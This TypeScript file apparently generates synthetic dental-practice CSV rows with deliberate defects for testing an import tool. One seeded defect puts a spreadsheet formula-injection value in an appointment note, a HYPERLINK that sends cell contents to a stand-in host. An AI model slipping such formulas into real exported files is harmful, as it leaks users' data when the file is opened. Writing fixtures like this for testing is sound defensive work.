import { databaseDate, plainMoney, styledMoney } from '../../practice/cells.js';
import type { LinkTo } from '../../practice/export-run.js';
import { NOBODY } from '../../practice/households.js';
import type { Office, Person, Plan, PlannedItem, Recall, Visit } from '../../practice/model.js';
import type { ColumnOf, Row } from './export-layout.js';
import { listed, orNull } from './export-layout.js';

/** The office's kinds of visit, in the order of the practice's own. */
const VISIT_KINDS = ['', 'New Patient', 'Hygiene', 'Restorative', 'Emergency', 'Consultation'] as const;
const STATUSES = { scheduled: 'Scheduled', confirmed: 'Confirmed', completed: 'Completed', 'no-show': 'No Show', broken: 'Cancelled', unscheduled: 'Unscheduled' } as const;
/** A status that the office made up and never explained. */
const STATUS_OF_THE_OFFICE = 'Blue folder';
const PLAN_STATUSES = {
  created: 'Created', printed: 'Presented', 'pre-authorized': 'Pre-Authorized', 'followed-up': 'Presented', preferred: 'Proposed', proposed: 'Proposed',
  accepted: 'Accepted', rejected: 'Rejected', completed: 'Completed',
} as const;
const PAYMENTS = ['Unpaid', 'Partially paid', 'Paid'] as const;
const SHOWN_IN_VISITS: readonly string[] = [
  'past-still-scheduled', 'patient-missing', 'booked-before-patient-record', 'booked-by-stranger', 'cancelled-as-completed', 'midnight-start', 'length-zero',
  'provider-placeholder-booked', 'status-without-name', 'formula-in-note',
];
const TWO = (part: number): string => String(part).padStart(2, '0');

/** A row of `appointments.csv`. */
export function appointmentRow(visit: Visit, person: Person, office: Office, sound: boolean): Row<'appointments.csv'> {
  const { defect } = visit;
  const isStranger = defect === 'booked-before-patient-record' || defect === 'booked-by-stranger';
  const patient = isStranger ? 'NULL' : String(defect === 'patient-missing' ? NOBODY + person.id : person.id);
  const provider = defect === 'provider-placeholder-booked' ? 'Walk-In' : visit.provider;
  const cells = {
    'Appointment ID': String(visit.id), 'Patient ID': patient, 'Patient Name': defect === 'booked-by-stranger' ? `Newcomer${visit.id}, Pat` : `${person.last}, ${person.first}`,
    'Appointment Date': databaseDate(visit.date), 'Start Time': defect === 'midnight-start' ? '00:00' : `${TWO(visit.hour)}:${TWO(visit.minute)}`,
    Duration: defect === 'length-zero' ? '0' : String(visit.minutes), Operatory: visit.room, 'Provider ID': provider,
    'Appointment Type': orNull(VISIT_KINDS[visit.kind] ?? ''), Reason: orNull(visit.reason), Status: defect === 'status-without-name' ? STATUS_OF_THE_OFFICE : STATUSES[visit.status],
    'Procedure Codes': orNull(visit.codes.flatMap((id) => office.codes.find((code) => code.id === id)?.code ?? []).join(', ')),
    Notes: defect === 'formula-in-note' ? '=HYPERLINK("http://example.com/?"&A1,"confirm")' : orNull(visit.note),
  };
  const links: LinkTo[] = patient === String(person.id) ? [['patient', 'patient', patient]] : [];
  if (office.providers.some(({ id }) => id === provider)) links.push(['provider', 'provider', provider]);
  const change = (turn: number): readonly [ColumnOf<'appointments.csv'>, string] =>
    (turn % 2 === 0 ? ['Duration', String(visit.minutes + 10)] : ['Notes', 'Please bring the new insurance card']);
  const defects = defect !== null && SHOWN_IN_VISITS.includes(defect) ? [defect] : [];
  return { cells, about: { key: cells['Appointment ID'], links, defects, ...(sound && defect === null ? { change } : {}) } };
}

/** The estimate of a plan: its procedures without those that were deleted. */
const estimateOf = ({ items }: Plan): number => items.filter(({ defect }) => defect !== 'item-deleted').reduce((sum, { fee }) => sum + fee, 0);

/** A row of `treatment_plans.csv`. Completed work costs a little less than was estimated. */
export function planRow(plan: Plan, person: Person, sound: boolean): Row<'treatment_plans.csv'> {
  const { defect, status } = plan;
  const isLost = defect === 'plan-of-missing-patient';
  const estimate = estimateOf(plan);
  const final = Math.round((estimate * 97) / 10_000) * 100;
  const cells = {
    'Plan ID': String(plan.id), 'Patient ID': String(isLost ? NOBODY + person.id : person.id), 'Plan Name': orNull(plan.name),
    'Plan Status': status === 'accepted' && plan.id % 3 === 0 ? 'In Progress' : PLAN_STATUSES[status], 'Provider ID': plan.provider,
    'Date Created': databaseDate(plan.created), 'Estimated Fee': plainMoney(estimate), 'Final Fee': status === 'completed' ? plainMoney(final) : 'NULL',
    'Payment Status': PAYMENTS[plan.id % PAYMENTS.length] ?? 'Unpaid', Notes: plan.id % 4 === 0 ? 'Patient wants to wait for the new insurance year.' : 'NULL',
  };
  const change = (): readonly [ColumnOf<'treatment_plans.csv'>, string] =>
    (status === 'completed' ? ['Final Fee', plainMoney(final + 2500)] : ['Estimated Fee', plainMoney(estimate + 2500)]);
  return {
    cells,
    about: {
      key: cells['Plan ID'], links: isLost ? [] : [['patient', 'patient', cells['Patient ID']]],
      defects: defect === 'alternate-plans' ? [] : listed(defect), ...(sound && defect === null ? { change } : {}),
    },
  };
}

/** A row of `treatment_plan_procedures.csv`. */
export function itemRow(item: PlannedItem, plan: Plan): Row<'treatment_plan_procedures.csv'> {
  const { defect } = item;
  const cells = {
    'Line ID': String(item.id), 'Plan ID': String(plan.id), 'Procedure Code': item.code, Description: item.text, Tooth: item.tooth, Surface: orNull(item.surface),
    Fee: defect === 'fee-with-symbols' ? styledMoney(item.fee, 'symbols') : plainMoney(item.fee),
    'Insurance Estimate': defect === 'estimate-not-set' ? '-1.00' : plainMoney(item.estimate), 'Date Planned': databaseDate(item.date),
    Status: item.completed ? 'Completed' : 'Planned', Deleted: defect === 'item-deleted' ? '1' : '0',
  };
  // What the office deleted is a row and no record.
  const nothing = defect === 'item-deleted' ? { records: [] } : {};
  return { cells, about: { key: cells['Line ID'], links: [['plan', 'treatmentPlan', cells['Plan ID']]], defects: listed(defect), ...nothing } };
}

/** A recall as a row of `tasks.csv`: there is no other place for it. */
export function recallRow(recall: Recall, index: number, person: Person, asOf: number, sound: boolean): Row<'tasks.csv'> {
  const { defect } = recall;
  const patient = String(defect === 'recall-of-missing-patient' ? NOBODY + person.id : person.id);
  const cells = {
    'Task ID': String(person.id * 100 + index), 'Patient ID': patient, 'Task Type': recall.months < 12 ? 'Hygiene' : 'Recall', Subject: recall.type,
    'Due Date': databaseDate(defect === 'recall-due-missing' ? null : recall.due),
    'Last Done': defect === 'recall-prior-sentinel' ? '1900-01-01 00:00:00.000' : databaseDate(recall.prior), 'Interval (Months)': String(recall.months),
    'Assigned To': recall.provider, Status: recall.status === '' ? 'Open' : recall.status, Notes: 'NULL',
  };
  const shown = defect === 'recall-interval-odd' || defect === 'recall-two-digit-year' ? null : defect;
  // A change stays on its side of today: whether a recall is overdue must not change with it.
  const change = (): readonly [ColumnOf<'tasks.csv'>, string] => ['Due Date', databaseDate(recall.due + (recall.due > asOf ? 7 : -7))];
  return {
    cells,
    about: {
      key: cells['Task ID'], links: patient === String(person.id) ? [['patient', 'patient', patient]] : [], defects: listed(shown),
      ...(sound && defect === null ? { change } : {}),
    },
  };
}

/** A task that is no recall; reading it gives an administrative note. */
export function taskRow(person: Person, asOf: number): Row<'tasks.csv'> {
  const id = String(person.id * 100 + 90);
  const patient = String(person.id);
  return {
    cells: {
      'Task ID': id, 'Patient ID': patient, 'Task Type': 'Billing', Subject: 'Send statement', 'Due Date': databaseDate(asOf - 5), 'Last Done': 'NULL',
      'Interval (Months)': 'NULL', 'Assigned To': person.provider, Status: 'Open', Notes: 'Asked for paper.',
    },
    about: { key: id, records: [{ stream: 'clinicalNote', key: `task:${id}`, links: [['patient', 'patient', patient]] }] },
  };
}
